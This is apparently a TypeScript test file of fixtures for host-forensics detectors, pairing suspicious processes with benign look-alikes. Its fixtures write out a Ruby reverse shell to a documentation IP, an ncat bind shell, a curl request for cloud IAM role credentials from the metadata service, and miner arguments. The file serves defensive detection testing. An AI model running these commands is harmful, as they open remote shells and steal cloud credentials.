import { type DetectorCase, diskOf, dnsFinding, memoryOf, NOW, networkFinding, outward } from './made-evidence';

const daemon = { pid: 3000, ppid: 1, comm: 'agentd', args: '/usr/bin/agentd', exe: '/usr/bin/agentd' } as const;
const listening = (port: number) => [{ sock: 900, state: 'LISTEN', local: ['0.0.0.0', port] as const }];

/** Detectors that judge processes and their sockets. */
export const PROCESS_CASES: readonly DetectorCase[] = [
  {
    detector: 'finding-match',
    finds: {
      what: 'the process that holds the address of the finding',
      files: memoryOf([{ ...daemon, sockets: outward(8443) }]),
      finding: networkFinding('198.51.100.7', 8443),
      says: /agentd \(pid 3000\) holds the connection the finding names: 198\.51\.100\.7:8443/,
    },
    leaves: {
      what: 'a process connected to an address that begins alike',
      files: memoryOf([{ ...daemon, sockets: outward(8443) }]),
      finding: networkFinding('198.51.100.77', 8443),
    },
  },
  {
    detector: 'finding-mention',
    finds: {
      what: 'a command that asks for names below the domain of the finding',
      files: memoryOf([{ ...daemon, comm: 'bash', typed: [['2026-05-28T20:00:00+00:00', 'dig x1.bad.test']] }]),
      finding: dnsFinding('x9.bad.test'),
      says: /names bad\.test, which the finding is about/,
    },
    leaves: {
      what: 'a domain that only ends alike',
      files: memoryOf([{ ...daemon, comm: 'bash', typed: [['2026-05-28T20:00:00+00:00', 'dig www.notbad.test']] }]),
      finding: dnsFinding('x9.bad.test'),
    },
  },
  {
    detector: 'known-tool',
    finds: {
      what: 'a miner under another name, by what it was told and what it does',
      files: memoryOf([{ ...daemon, args: 'agentd -o pool.test.test:10128 -u w', sockets: outward(10_128) }]),
      says: /agentd \(pid 3000\) is a cryptocurrency miner/,
    },
    leaves: {
      what: 'a database client on a port pools use too',
      files: memoryOf([
        { ...daemon, comm: 'psql', args: 'psql -o out.csv -U app', exe: '/usr/bin/psql', sockets: outward(5555) },
      ]),
    },
  },
  {
    detector: 'reverse-shell',
    finds: {
      what: 'an interpreter whose arguments tie a shell to the connection it holds',
      files: memoryOf([
        {
          ...daemon,
          comm: 'ruby',
          exe: '/usr/bin/ruby3.1',
          args: 'ruby -rsocket -e f=TCPSocket.open("198.51.100.7",4242).to_i;exec sprintf("/bin/sh -i <&%d",f)',
          sockets: outward(4242, [7]),
        },
      ]),
      says: /ruby \(pid 3000\) is a shell driven from 198\.51\.100\.7:4242/,
    },
    leaves: {
      what: 'a script that is connected to a service, and the shell PHP starts to send mail',
      files: memoryOf([
        {
          ...daemon,
          comm: 'python3',
          exe: '/usr/bin/python3.11',
          args: 'python3 /opt/app/socket_exec.py',
          sockets: outward(),
        },
        { pid: 3001, ppid: 1, comm: 'php-fpm8.2', args: 'php-fpm: pool www', exe: '/usr/sbin/php-fpm8.2' },
        { pid: 3002, ppid: 3001, comm: 'sh', args: 'sh -c /usr/sbin/sendmail -t -i', exe: '/usr/bin/dash' },
      ]),
    },
  },
  {
    detector: 'telling-command',
    finds: {
      what: 'a request for the keys of the machine’s role, below a server',
      files: memoryOf([
        { pid: 2900, ppid: 1, comm: 'java', args: '/usr/bin/java -jar app.jar', exe: '/usr/bin/java' },
        {
          ...daemon,
          ppid: 2900,
          comm: 'curl',
          exe: '/usr/bin/curl',
          args: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app',
        },
      ]),
      says: /curl \(pid 3000\) asks the metadata service for the keys of the machine’s role/,
    },
    leaves: {
      what: 'a request for the instance’s id, and an installer fetched over HTTPS',
      files: memoryOf([
        {
          ...daemon,
          comm: 'curl',
          exe: '/usr/bin/curl',
          args: 'curl -s http://169.254.169.254/latest/meta-data/instance-id',
        },
        {
          ...daemon,
          pid: 3001,
          comm: 'sh',
          exe: '/usr/bin/dash',
          args: 'sh -c curl -fsSL https://example.com/install | sh',
        },
      ]),
    },
  },
  {
    detector: 'process-deleted-program',
    finds: {
      what: 'a program that was never a file',
      files: memoryOf([{ ...daemon, exe: '/memfd:a (deleted)', device: [0, 1] }]),
      says: /agentd \(pid 3000\) runs from memory only/,
    },
    leaves: {
      what: 'a daemon whose package was upgraded under it, and a container starter',
      files: memoryOf([
        { ...daemon, exe: '/usr/sbin/agentd (deleted)' },
        {
          pid: 3001,
          ppid: 1,
          comm: 'runc',
          args: 'runc init',
          exe: '/memfd:runc_cloned:/proc/self/exe (deleted)',
          device: [0, 1],
        },
      ]),
    },
  },
  {
    detector: 'process-odd-place',
    finds: {
      what: 'a program in a home folder that came when the machine was broken into',
      files: {
        ...diskOf({ path: '/home/app/.config/helper', mode: 'r/rrwxr-xr-x', born: NOW + 20, inode: 4000 }),
        ...memoryOf([{ ...daemon, exe: '/home/app/.config/helper', inode: 4000 }]),
      },
      says: /agentd \(pid 3000\) runs \/home\/app\/\.config\/helper, which came to the disk/,
    },
    leaves: {
      what: 'a program in a dot folder of a home that has been there for months',
      files: {
        ...diskOf({ path: '/home/app/.nvm/versions/node', mode: 'r/rrwxr-xr-x', inode: 4000 }),
        ...memoryOf([{ ...daemon, exe: '/home/app/.nvm/versions/node', inode: 4000 }]),
      },
    },
  },
  {
    detector: 'kernel-thread-lookalike',
    finds: {
      what: 'a program that shows itself as a kernel thread',
      files: memoryOf([{ ...daemon, comm: 'kworker/2:1', args: '[kworker/2:1-events]', exe: '/usr/bin/x' }]),
      says: /kworker\/2:1 \(pid 3000\) shows itself as \[kworker/,
    },
    leaves: {
      what: 'a kernel thread, and a worker with a title in brackets',
      files: memoryOf([
        { pid: 3001, ppid: 2, comm: 'kworker/2:1', args: '[kworker/2:1-events]' },
        { ...daemon, comm: 'celery', args: '[celeryd: worker@host] -active-', exe: '/usr/bin/python3.9' },
      ]),
    },
  },
  {
    detector: 'process-not-listed',
    finds: {
      what: 'a running process that only the scan shows',
      files: memoryOf([{ ...daemon, unlisted: true }]),
      says: /agentd \(pid 3000\) is in memory and not in the kernel’s process list/,
    },
    leaves: {
      what: 'a process that ended, and a thread',
      files: memoryOf([], {
        psscan: [
          { COMM: 'old', EXIT_STATE: 'EXIT_DEAD', PID: 3000, PPID: 1, TID: 3000 },
          { COMM: 'thread', EXIT_STATE: 'TASK_RUNNING', PID: 600, PPID: 1, TID: 3001 },
        ],
      }),
    },
  },
  {
    detector: 'suspect-connection',
    finds: {
      what: 'a connection of a program in a hidden folder',
      files: memoryOf([{ ...daemon, exe: '/dev/shm/.k/d', sockets: outward() }]),
      says: /agentd \(pid 3000\) is connected to 198\.51\.100\.7:443/,
    },
    leaves: {
      what: 'an agent under /opt that the listing lacks, because it is younger than the snapshot',
      files: { ...diskOf(), ...memoryOf([{ ...daemon, exe: '/opt/agent/bin/agentd', sockets: outward() }]) },
    },
  },
  {
    detector: 'dns-channel',
    finds: {
      what: 'a hidden program that talks to an outside name server itself',
      files: memoryOf([{ ...daemon, exe: '/dev/shm/.k/d', sockets: outward(53) }]),
      says: /agentd \(pid 3000\) talks DNS to 198\.51\.100\.7:53 itself/,
    },
    leaves: {
      what: 'a resolver, and a program that asks the resolver of the VPC',
      files: memoryOf([
        { ...daemon, comm: 'unbound', args: '/usr/sbin/unbound -d', exe: '/usr/sbin/unbound', sockets: outward(53) },
        {
          ...daemon,
          pid: 3001,
          sockets: [
            { sock: 1, type: 'DGRAM', state: 'UNCONNECTED', local: ['10.0.0.9', 4], remote: ['169.254.169.253', 53] },
          ],
        },
      ]),
    },
  },
  {
    detector: 'unexpected-listener',
    finds: {
      what: 'a network tool that hands a shell to whoever connects',
      files: memoryOf([
        {
          ...daemon,
          comm: 'ncat',
          args: 'ncat --exec /bin/bash -lp 8443',
          exe: '/usr/bin/ncat',
          sockets: listening(8443),
        },
      ]),
      says: /ncat \(pid 3000\) waits for connections on 0\.0\.0\.0:8443/,
    },
    leaves: {
      what: 'a service on a port that back doors like, and one on loopback',
      files: memoryOf([
        { ...daemon, sockets: listening(9999) },
        {
          ...daemon,
          pid: 3001,
          comm: 'nc',
          exe: '/usr/bin/nc',
          args: 'nc -l 1',
          sockets: [{ sock: 1, state: 'LISTEN', local: ['127.0.0.1', 1] }],
        },
      ]),
    },
  },
  {
    detector: 'injected-memory',
    finds: {
      what: 'a function in writable memory of a program that makes no code',
      files: memoryOf([daemon], {
        malfind: [{ PID: 3000, Process: 'agentd', Protection: 'rwx', Start: 1, End: 2, Hexdump: '55 48 89 e5' }],
      }),
      says: /agentd \(pid 3000\) has a region of writable, executable memory/,
    },
    leaves: {
      what: 'the same in a just-in-time compiler',
      files: memoryOf([{ ...daemon, comm: 'java', exe: '/usr/bin/java' }], {
        malfind: [{ PID: 3000, Process: 'java', Protection: 'rwx', Start: 1, End: 2, Hexdump: '55 48 89 e5' }],
      }),
    },
  },
  {
    detector: 'timer-start',
    finds: {
      what: 'a program in memory only that a timer starts',
      files: memoryOf([{ ...daemon, exe: '/memfd:a (deleted)', device: [0, 1], env: { TRIGGER_UNIT: 'sync.timer' } }]),
      says: /started again and again by sync\.timer/,
    },
    leaves: {
      what: 'a packaged program that a timer starts',
      files: memoryOf([{ ...daemon, env: { TRIGGER_UNIT: 'apt-daily.timer' } }]),
    },
  },
  {
    detector: 'shared-credentials',
    finds: {
      what: 'two processes with one set of credentials',
      files: memoryOf([], { check_creds: [{ PIDs: '610, 3000' }] }),
      says: /Processes 610, 3000 share one set of credentials/,
    },
    leaves: { what: 'an empty answer', files: memoryOf([], { check_creds: [] }) },
  },
];
